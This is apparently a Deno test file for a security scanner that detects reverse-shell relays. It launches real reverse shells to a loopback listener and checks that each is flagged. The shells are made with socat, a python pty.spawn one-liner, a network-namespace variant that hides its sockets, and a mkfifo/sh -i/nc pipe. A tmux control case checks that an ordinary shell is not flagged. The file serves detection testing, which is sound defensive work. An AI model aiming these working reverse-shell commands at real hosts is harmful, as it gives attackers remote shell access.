/**
 * Relay reverse shells with real tools against a listener on 127.0.0.1 that this test holds: socat with a pty,
 * a python pty.spawn relay, and `mkfifo f; sh -i < f | nc … > f`; and a shell in tmux, which must stay quiet.
 * A test whose tool is missing is ignored, with the reason printed. Every process is killed at the end.
 */
import assert from "node:assert/strict";
import { childPids, killPid } from "../helpers.ts";
import { needs } from "../host_caps.ts";
import {
  argvOf,
  connected,
  kill,
  listener,
  shellFindings as relayFindings,
  spawn,
  waitFor,
} from "./ioc_live_procs.ts";

const SH = /\/(dash|bash|sh)$/;

Deno.test(needs(["socat", "inetSockets"], {
  name: "ioc relay live: socat TCP:… EXEC:sh,pty — the shell on the pty is named with socat as its relay",
  async fn() {
    const l = listener();
    const socat = spawn("/usr/bin/socat", [`TCP:127.0.0.1:${l.port}`, "EXEC:/bin/sh,pty,setsid,stderr"]);
    let shell: number | undefined;
    try {
      shell = await waitFor("socat's shell", () => childPids(socat.pid, SH)[0]);
      await connected("socat's connection", socat.pid);
      const fs = await relayFindings(shell);
      assert.deepEqual(fs.map((f) => `${f.check_id} ${f.severity}`), [
        "ioc.process.reverse_shell_relay critical",
      ]);
      const m = fs[0].metadata;
      assert.deepEqual([m.channel, m.pairing, m.relay_pid, m.relay_exe], [
        "pty",
        "tty-index",
        socat.pid,
        "/usr/bin/socat",
      ]);
      assert.equal(m.remote, `127.0.0.1:${l.port}`);
    } finally {
      killPid(shell);
      await kill(socat);
      l.close();
    }
  },
}));

Deno.test(needs(["socat", "inetSockets"], {
  name:
    "ioc relay live: socat TCP:… EXEC:sh (a socketpair, no pty) — the shell is named with socat, its parent",
  async fn() {
    const l = listener();
    const socat = spawn("/usr/bin/socat", [`TCP:127.0.0.1:${l.port}`, "EXEC:/bin/sh"]);
    let shell: number | undefined;
    try {
      shell = await waitFor("socat's shell", () => childPids(socat.pid, SH)[0]);
      await connected("socat's connection", socat.pid);
      const fs = await relayFindings(shell);
      assert.deepEqual(fs.map((f) => f.check_id), ["ioc.process.reverse_shell_relay"]);
      assert.deepEqual([fs[0].metadata.channel, fs[0].metadata.relay_pid], ["socketpair", socat.pid]);
    } finally {
      killPid(shell);
      await kill(socat);
      l.close();
    }
  },
}));

Deno.test(needs(["python3", "inetSockets"], {
  name:
    "ioc relay live: python -c 'pty.spawn(\"/bin/sh\")' on a socket — the shell is named, python is a direct one",
  async fn() {
    const l = listener();
    const code =
      "import os, pty, socket, sys; s = socket.create_connection(('127.0.0.1', int(sys.argv[1]))); " +
      "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]; pty.spawn('/bin/sh')";
    const py = spawn("/usr/bin/python3", ["-c", code, String(l.port)]);
    let shell: number | undefined;
    try {
      shell = await waitFor("python's shell", () => childPids(py.pid, SH)[0]);
      const fs = await relayFindings(shell);
      assert.deepEqual(fs.map((f) => f.check_id), ["ioc.process.reverse_shell_relay"]);
      assert.deepEqual([fs[0].metadata.relay_pid, fs[0].metadata.pairing], [py.pid, "tty-index"]);
      const direct = await relayFindings(py.pid);
      assert.deepEqual(direct.map((f) => `${f.check_id} ${f.metadata.kind}`), [
        "ioc.process.reverse_shell interpreter",
      ]);
    } finally {
      killPid(shell);
      await kill(py);
      l.close();
    }
  },
}));

Deno.test(needs(["root", "netns", "python3"], {
  name:
    "ioc relay live: pty.spawn relaying a connection made in a network namespace no process is in is still found",
  async fn() {
    // The connection is made in a new namespace (listener and client both there), then python goes back to
    // this one: no process is in the namespace whose tables hold its sockets.
    const code = [
      "import ctypes, os, pty, socket, subprocess",
      "libc = ctypes.CDLL('libc.so.6', use_errno=True)",
      "home = os.open('/proc/self/ns/net', os.O_RDONLY)",
      "assert libc.unshare(0x40000000) == 0",
      "subprocess.run(['/usr/sbin/ip', 'link', 'set', 'lo', 'up'], check=True)",
      "srv = socket.socket(); srv.bind(('127.0.0.1', 0)); srv.listen(1)",
      "s = socket.create_connection(srv.getsockname()); peer, _ = srv.accept()",
      "assert libc.setns(home, 0x40000000) == 0",
      "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]; pty.spawn('/bin/sh')",
    ].join("\n");
    const py = spawn("/usr/bin/python3", ["-c", code]);
    let shell: number | undefined;
    try {
      shell = await waitFor("python's shell", () => childPids(py.pid, SH)[0]);
      const fs = await relayFindings(shell);
      assert.deepEqual(fs.map((f) => f.check_id), ["ioc.process.reverse_shell_relay"]);
      assert.deepEqual([fs[0].metadata.relay_pid, fs[0].metadata.state, fs[0].metadata.socket_namespace], [
        py.pid,
        "ESTABLISHED",
        "unlisted",
      ]);
      const direct = await relayFindings(py.pid);
      assert.deepEqual(direct.map((f) => `${f.check_id} ${f.metadata.kind} ${f.metadata.socket_namespace}`), [
        "ioc.process.reverse_shell interpreter unlisted",
      ]);
    } finally {
      killPid(shell);
      await kill(py);
    }
  },
}));

Deno.test(needs(["nc", "inetSockets"], {
  name:
    "ioc relay live: mkfifo f; sh -i < f | nc 127.0.0.1 PORT > f — the shell is named with nc as its relay",
  async fn() {
    const l = listener();
    const dir = Deno.makeTempDirSync({ prefix: "ioc-fifo-" });
    // In a session of its own: an interactive shell turns job control on and would take over the controlling
    // terminal of the test run (and stop or hang it) if it could open one.
    const outer = spawn("/usr/bin/setsid", [
      "/bin/sh",
      "-c",
      `mkfifo ${dir}/f && /bin/sh -i < ${dir}/f 2>&1 | /usr/bin/nc 127.0.0.1 ${l.port} > ${dir}/f`,
    ]);
    let shell: number | undefined;
    try {
      // The shell once it ran `/bin/sh -i`: before that exec, the forked subshell (blocked opening the FIFO)
      // still carries the outer `sh -c …` command line, which a scanner rightly does not call a relay shell.
      shell = await waitFor(
        "the fifo shell",
        () => childPids(outer.pid, SH).find((pid) => argvOf(pid).join(" ") === "/bin/sh -i"),
      );
      const nc = await waitFor("nc", () => childPids(outer.pid, /\/nc(\.openbsd)?$/)[0]);
      await connected("nc's connection", nc);
      const fs = await relayFindings(shell);
      assert.deepEqual(fs.map((f) => f.check_id), ["ioc.process.reverse_shell_relay"]);
      assert.deepEqual([fs[0].metadata.channel, fs[0].metadata.pairing, fs[0].metadata.relay_pid], [
        "pipe",
        "fifo",
        nc,
      ]);
    } finally {
      killPid(shell);
      for (const pid of childPids(outer.pid, /./)) killPid(pid);
      await kill(outer);
      l.close();
      Deno.removeSync(dir, { recursive: true });
    }
  },
}));

Deno.test(needs(["tmux", "inetSockets"], {
  name: "ioc relay live: a shell in tmux is quiet (its pty's holder has no network connection)",
  async fn() {
    const sock = `sys-scan-test-${Deno.pid}`;
    const tmux = (...args: string[]) =>
      new TextDecoder().decode(
        new Deno.Command("/usr/bin/tmux", { args: ["-L", sock, "-f", "/dev/null", ...args], stdin: "null" })
          .outputSync().stdout,
      ).trim();
    try {
      tmux("new-session", "-d", "/bin/sh");
      const pane = Number(tmux("display-message", "-p", "#{pane_pid}"));
      assert.ok(pane > 0, "tmux started a pane");
      assert.deepEqual(await relayFindings(pane), []);
    } finally {
      tmux("kill-server");
    }
  },
}));
